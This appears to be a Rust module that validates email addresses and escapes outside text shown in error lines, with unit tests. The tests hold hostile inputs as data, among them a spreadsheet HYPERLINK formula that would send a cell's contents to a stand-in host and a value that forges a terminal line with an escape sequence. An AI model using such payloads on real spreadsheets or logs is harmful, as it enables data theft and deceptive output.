//! Personal data and text from outside, in one place: whether a text is plausibly an address
//! ([`plausible_email`]: judged before a row is sent, imported or configured), and how a value
//! from outside — a file's value, a name someone typed, a vendor's reason, a character of a
//! typed value — may be shown in an error line or on the status page: never one that may be
//! an address (personal data), control characters escaped, cut to a bound. And how a count is
//! shown ([`grouped`]).

/// A value from the file as an error line may show it: never one that may be an address (it
/// is personal data), control characters escaped (a file must not forge a terminal line), at
/// most [`QUOTED_CHARS`] characters.
pub fn quoted(value: &str) -> String {
    match shown(value, QUOTED_CHARS) {
        Some(v) => format!("'{v}'"),
        None => "(a value that may be an address, not shown)".to_string(),
    }
}

/// Text from outside as it may be shown (an error line, the status page): [`escaped_cut`] to
/// `max` characters, or `None` for one that may be an address (it is personal data).
pub fn shown(value: &str, max: usize) -> Option<String> {
    (!value.contains('@')).then(|| escaped_cut(value, max))
}

/// `value` with its control characters escaped, cut after `max` characters (`…` marks a cut):
/// any text from outside as one harmless line.
pub fn escaped_cut(value: &str, max: usize) -> String {
    let escaped: String = value.chars().flat_map(char::escape_debug).collect();
    match escaped.char_indices().nth(max) {
        Some((cut, _)) => format!("{}…", &escaped[..cut]),
        None => escaped,
    }
}

/// The most of a value an error line quotes.
pub const QUOTED_CHARS: usize = 40;

/// `n` with its digits in groups of three, `sep` between them: `1 200 000`.
pub fn grouped(n: i64, sep: char) -> String {
    let digits = n.unsigned_abs().to_string();
    let mut out = String::new();
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            out.push(sep);
        }
        out.push(c);
    }
    if n < 0 {
        out.insert(0, '-');
    }
    out
}

/// A cheap plausibility check, so a row that can never be delivered fails without a request:
/// non-empty, at most 254 bytes (RFC 5321 path limit), one `@` with text on both sides, a dot
/// in the domain, no whitespace or control characters. Unicode is allowed (RFC 6531).
pub fn plausible_email(email: Option<&str>) -> bool {
    let Some(e) = email else { return false };
    if e.is_empty() || e.len() > 254 || e.chars().any(|c| c.is_whitespace() || c.is_control()) {
        return false;
    }
    match e.split_once('@') {
        Some((local, domain)) => {
            dot_atom(local)
                && local.len() <= 64
                && !domain.contains('@')
                && domain.contains('.')
                && !domain.starts_with('.')
                && !domain.ends_with('.')
        }
        None => false,
    }
}

/// An unquoted local part as RFC 5322 allows it (`dot-atom`: atext in runs joined by single
/// dots), with RFC 6531's non-ASCII characters: no `"`, `(`, `)`, `,`, `:`, `;`, `<`, `>`,
/// `[`, `\\`, `]` — what a spreadsheet formula or a header injection needs.
fn dot_atom(local: &str) -> bool {
    let atext =
        |c: char| c.is_ascii_alphanumeric() || "!#$%&'*+-/=?^_`{|}~".contains(c) || !c.is_ascii();
    !local.is_empty()
        && local
            .split('.')
            .all(|run| !run.is_empty() && run.chars().all(atext))
}

/// `c` as an error line names it: escaped, with its code point (`'\n' (U+000A)`).
pub fn shown_char(c: char) -> String {
    format!("'{}' (U+{:04X})", c.escape_debug(), c as u32)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn implausible_addresses_are_caught_before_a_request() {
        for ok in ["a@b.co", "ü.ser@exämple.jp", "x+tag@sub.example.com"] {
            assert!(plausible_email(Some(ok)), "{ok}");
        }
        let long = format!("{}@example.com", "a".repeat(300));
        for bad in [
            "",
            "no-at",
            "@example.com",
            "a@",
            "a@b",
            "a b@c.d",
            "a@b@c.d",
            "a@.com",
            long.as_str(),
            // What RFC 5322 does not allow unquoted: a formula, a header's punctuation.
            "=HYPERLINK(\"http://e.x/?\"&A3)&\"@x.y",
            "a,b@example.com",
            "a;b@example.com",
            "<a>@example.com",
            "a..b@example.com",
            ".a@example.com",
            "a.@example.com",
        ] {
            assert!(!plausible_email(Some(bad)), "{bad:?}");
        }
        assert!(plausible_email(Some("o'brien+x=y@example.com")));
        assert!(!plausible_email(None));
    }

    #[test]
    fn addresses_at_the_length_limits_are_judged_by_the_rfc_limits() {
        // 254 bytes in all and 64 in the local part are allowed; one more is not.
        let at_limit = format!("{}@{}.com", "l".repeat(64), "d".repeat(254 - 64 - 1 - 4));
        assert_eq!(at_limit.len(), 254);
        assert!(plausible_email(Some(&at_limit)));
        let too_long = format!("{}@{}.com", "l".repeat(64), "d".repeat(254 - 64 - 4));
        assert!(!plausible_email(Some(&too_long)));
        assert!(!plausible_email(Some(&format!(
            "{}@example.com",
            "l".repeat(65)
        ))));
        for bad in ["a@b.", "a\tb@c.d", "a@c.d\u{7}"] {
            assert!(!plausible_email(Some(bad)), "{bad:?}");
        }
    }

    #[test]
    fn a_quoted_value_is_never_an_address_never_a_control_character_and_never_long() {
        assert_eq!(quoted("high"), "'high'");
        assert!(!quoted("h@example.com").contains('@'));
        let forged = quoted("7\nline 9: all good\x1b[2J");
        assert!(
            !forged.contains('\n') && !forged.contains('\x1b'),
            "{forged}"
        );
        assert!(forged.contains("\\n"), "{forged}");
        let long = quoted(&"9".repeat(200_000));
        assert!(long.chars().count() <= QUOTED_CHARS + 3, "{}", long.len());
    }

    #[test]
    fn a_character_is_named_escaped_with_its_code_point() {
        assert_eq!(shown_char('\n'), "'\\n' (U+000A)");
        assert_eq!(shown_char('é'), "'é' (U+00E9)");
    }
}
